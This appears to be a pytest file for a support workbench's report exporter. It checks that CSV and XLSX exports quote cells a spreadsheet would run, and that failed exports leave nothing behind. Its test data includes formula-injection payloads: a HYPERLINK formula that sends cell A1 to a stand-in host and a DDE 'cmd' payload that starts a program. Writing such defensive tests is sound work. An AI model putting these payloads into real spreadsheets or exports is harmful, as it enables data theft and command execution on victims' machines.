"""Exports are safe to open and appear whole or not at all."""

from __future__ import annotations

import subprocess
import sys
import textwrap

import openpyxl
import pandas as pd
import pytest

from tests.ledger_sample import sample_ledger
from workbench.errors import UsageError
from workbench.reports._cells import neutralize, neutralize_frame
from workbench.reports.export import FORMATS, Report, companion, write

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_quoted(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", ["-2", "+3.5", "1e5", "hello", "", "'=already", "a=b"])
def test_plain_numbers_and_text_are_left_alone(text):
    assert neutralize(text) == text


def test_categorical_columns_are_neutralised_too():
    frame = pd.DataFrame({"c": pd.Categorical(["=1+1", "ok", "=1+1"])})
    assert list(neutralize_frame(frame)["c"]) == ["'=1+1", "ok", "'=1+1"]
    both = pd.DataFrame({"c": pd.Categorical(["=x", "'=x"])})
    assert list(neutralize_frame(both)["c"]) == ["'=x", "'=x"]


def _hostile_ledger() -> pd.DataFrame:
    ledger = sample_ledger(len(HOSTILE) * 2)
    ledger["note"] = HOSTILE * 2
    ledger["contact"] = list(reversed(HOSTILE)) * 2  # display names are attacker-written too
    return ledger


def test_csv_holds_no_formula_and_keeps_the_text(tmp_path):
    path = write(Report(_hostile_ledger()), "csv", tmp_path / "out.csv")
    back = pd.read_csv(path, keep_default_na=False)
    assert list(back["note"]) == ["'" + h for h in HOSTILE] * 2
    assert not back["contact"].str.match(r"^[=+\-@\t\r]").any()
    assert back["arrived_at"].str.endswith("+0000").all()  # UTC with its offset


def test_xlsx_holds_no_formula_and_keeps_the_text(tmp_path):
    path = write(Report(_hostile_ledger()), "xlsx", tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
    sheet = book["interactions"]
    header = [c.value for c in sheet[1]]
    notes = [r[header.index("note")].value for r in sheet.iter_rows(min_row=2)]
    # strings, exactly as written: Excel runs none of them (a CR is stored as OOXML's
    # _x000D_ escape, which Excel decodes and openpyxl leaves as is)
    assert [n.replace("_x000D_", "\r") for n in notes] == HOSTILE * 2
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    assert {"summary", "volume per day", "per agent", "dispositions"} <= set(book.sheetnames)


def test_xlsx_times_in_the_analysts_zone(tmp_path):
    ledger = sample_ledger(3)
    path = write(Report(ledger, tz="Europe/Paris"), "xlsx", tmp_path / "out.xlsx")
    back = pd.read_excel(path, sheet_name="interactions")
    first = back["arrived_at (Europe/Paris)"].iloc[0]
    assert first == ledger["arrived_at"].iloc[0].tz_convert("Europe/Paris").tz_localize(None)


def test_transcript_goes_beside_the_csv_and_into_a_sheet(tmp_path):
    ledger = sample_ledger(2)
    lines = pd.DataFrame(
        {
            "interaction_id": [ledger["interaction_id"][0]] * 2,
            "at": pd.to_datetime(["2026-03-02 08:00", "2026-03-02 08:05"], utc=True),
            "author": ["dana_rivera", "ann"],
            "kind": ["inbound", "outbound"],
            "action": ["message", "reply"],
            "text": ["=cmd|' /C calc'!A0", "@dana_rivera sorry"],
        }
    )
    path = write(Report(ledger, lines), "csv", tmp_path / "out.csv")
    side = companion(path, "transcript")
    assert side.name == "out.transcript.csv"
    assert list(pd.read_csv(side)["text"]) == ["'=cmd|' /C calc'!A0", "'@dana_rivera sorry"]
    book = write(Report(ledger, lines), "xlsx", tmp_path / "out.xlsx")
    assert "transcript" in openpyxl.load_workbook(book).sheetnames
    pq = write(Report(ledger, lines), "parquet", tmp_path / "out.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(companion(pq, "transcript")), lines)


def test_a_failed_export_leaves_nothing(tmp_path, monkeypatch):
    def broken(report, path, extra):
        path.write_text("half")
        extra("transcript").write_text("half")
        raise RuntimeError("disk full")

    monkeypatch.setitem(FORMATS, "csv", broken)
    with pytest.raises(RuntimeError):
        write(Report(sample_ledger(3)), "csv", tmp_path / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_killed_export_leaves_nothing(tmp_path):
    """SIGTERM in the middle of writing: the temporary files go, the target never appears."""
    script = textwrap.dedent(
        f"""
        import importlib, os, signal
        from tests.ledger_sample import sample_ledger
        ex = importlib.import_module("workbench.reports.export")

        def slow(report, path, extra):
            path.write_text("half")
            os.kill(os.getpid(), signal.SIGTERM)
            path.write_text("never reached")

        ex.FORMATS["csv"] = slow
        ex.write(ex.Report(sample_ledger(3)), "csv", {str(tmp_path / "out.csv")!r})
        """
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.returncode != 0 and "Interrupted" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_bad_options_name_the_option(tmp_path):
    ledger = sample_ledger(5)
    with pytest.raises(UsageError, match="--format: must be one of"):
        write(Report(ledger), "docx", tmp_path / "x.docx")
    with pytest.raises(UsageError, match="--output: folder .* does not exist"):
        write(Report(ledger), "csv", tmp_path / "nope" / "x.csv")
    with pytest.raises(UsageError, match="--output: .* is a folder"):
        write(Report(ledger), "csv", tmp_path)


def test_transcripts_are_read_for_many_interactions(store):
    from datetime import UTC, datetime, timedelta

    from workbench.domain import Channel, Contact, EntryKind, Interaction, TranscriptEntry

    at = datetime(2026, 3, 1, 12, tzinfo=UTC)
    contact = Contact("7", "dana", "Dana")
    ids = []
    for k in range(3):
        it = Interaction(
            id=f"i-{k}",
            channel=Channel.MENTION,
            contact_id="7",
            tweet_id=str(100 + k),
            arrived_at=at,
        )
        line = TranscriptEntry(it.id, at, EntryKind.INBOUND, "dana", f"help {k}")
        store.add_interaction(it, contact, line)
        store.add_transcript(
            TranscriptEntry(
                it.id, at + timedelta(minutes=1), EntryKind.OUTBOUND, "ann", "on it", "reply"
            )
        )
        ids.append(it.id)
    lines = store.reports.transcript(["i-2", "i-0"])
    assert list(lines["interaction_id"]) == ["i-2", "i-2", "i-0", "i-0"]
    assert list(lines["text"]) == ["help 2", "on it", "help 0", "on it"]
    assert str(lines["at"].dt.tz) == "UTC"
    assert store.reports.transcript([]).empty


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--queue", "nope", "--queue: no queue 'nope' in the store (there are: none)"),
        ("--tz", "Mars/Olympus", "--tz: not a time zone name"),
        ("--from", "yesterday", "--from: expected an ISO date or time"),
    ],
)
def test_the_command_refuses_bad_options_with_status_2(
    tmp_path, tmp_path_factory, option, value, message
):
    from tests.test_cli import workbench
    from workbench.store import Store

    # a store to read (a report makes none: test_report_targets.py)
    url = f"sqlite:///{tmp_path_factory.mktemp('store') / 'workbench.db'}"
    Store(url).close()
    done = workbench(
        "report",
        option,
        value,
        "--format",
        "csv",
        "--output",
        str(tmp_path / "r.csv"),
        env={"WORKBENCH_DB_URL": url},
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip().startswith(f"workbench report: {message}")
    assert list(tmp_path.iterdir()) == []


def test_pdf_is_the_html_report_printed_by_chromium(tmp_path):
    import re
    import shutil

    from tests.conftest import require

    require(shutil.which("chromium") is not None, "Debian's chromium prints the PDF report")
    path = write(Report(sample_ledger(40)), "pdf", tmp_path / "report.pdf")
    body = path.read_bytes()
    assert body.startswith(b"%PDF-")
    pages = len(re.findall(rb"/Type\s*/Page[^s]", body))
    assert 2 <= pages <= 10  # the report, not its source text (which runs to a thousand pages)
    assert [p.name for p in tmp_path.iterdir()] == ["report.pdf"]


def _fill(store, n=7):
    from datetime import UTC, datetime, timedelta

    from workbench.domain import Channel, Contact, EntryKind, Interaction, TranscriptEntry

    at = datetime(2026, 3, 1, 12, tzinfo=UTC)
    contact = Contact("7", "dana", "=Dana")
    for k in range(n):
        it = Interaction(
            id=f"i-{k}",
            channel=Channel.MENTION,
            contact_id="7",
            tweet_id=str(100 + k),
            queue="vip" if k % 2 else "mentions",
            arrived_at=at + timedelta(hours=k),
        )
        line = TranscriptEntry(it.id, it.arrived_at, EntryKind.INBOUND, "dana", f"=help {k}")
        store.add_interaction(it, contact, line)
        if k == 3:
            later = it.arrived_at + timedelta(minutes=5)
            for text, action in (("noted", "internal_note"), ("@dana on it", "reply")):
                store.add_transcript(
                    TranscriptEntry(it.id, later, EntryKind.OUTBOUND, "ann", text, action)
                )


def test_the_ledger_streams_in_chunks_equal_to_the_whole(store):
    from workbench.analytics.ledger import chunks, ledger

    _fill(store)
    whole = ledger(store=store)
    total, frames = chunks(store, size=3)
    parts = list(frames)
    assert total == len(whole) == 7 and [len(p) for p in parts] == [3, 3, 1]
    joined = pd.concat([p.astype(object) for p in parts], ignore_index=True)
    pd.testing.assert_frame_equal(joined, whole.astype(object))
    later = whole["arrived_at"].iloc[2]
    total, frames = chunks(store, start=later, where={"queue": "vip"})
    assert total == 2 and list(next(frames)["interaction_id"]) == ["i-3", "i-5"]


def test_the_command_streams_a_filtered_csv_with_its_transcript(store, tmp_path):
    from tests.test_cli import workbench
    from workbench.analytics.ledger import ledger

    _fill(store)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "vip.csv"
    done = workbench(
        "report",
        "--db-url",
        store.url,
        "--format",
        "csv",
        "--queue",
        "vip",
        "--from",
        "2026-03-01T13:00",
        "--transcript",
        "--quiet",
        "--output",
        str(out),
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == "" and "report" not in done.stderr  # --quiet: no bar, no summary
    back = pd.read_csv(out)
    expected = ledger(store=store)
    expected = expected[expected["queue"] == "vip"]
    assert list(back["interaction_id"]) == list(expected["interaction_id"]) == ["i-1", "i-3", "i-5"]
    assert set(back["contact_name"]) == {"'=Dana"}  # a display name that would run: quoted
    replies = dict(zip(back["interaction_id"], back["first_reply_text"], strict=True))
    assert replies["i-3"] == "'@dana on it" and pd.isna(replies["i-1"])  # the brand's first reply
    side = pd.read_csv(companion(out, "transcript"))
    assert list(side["text"]) == ["'=help 1", "'=help 3", "noted", "'@dana on it", "'=help 5"]
    assert sorted(p.name for p in out.parent.iterdir()) == ["vip.csv", "vip.transcript.csv"]
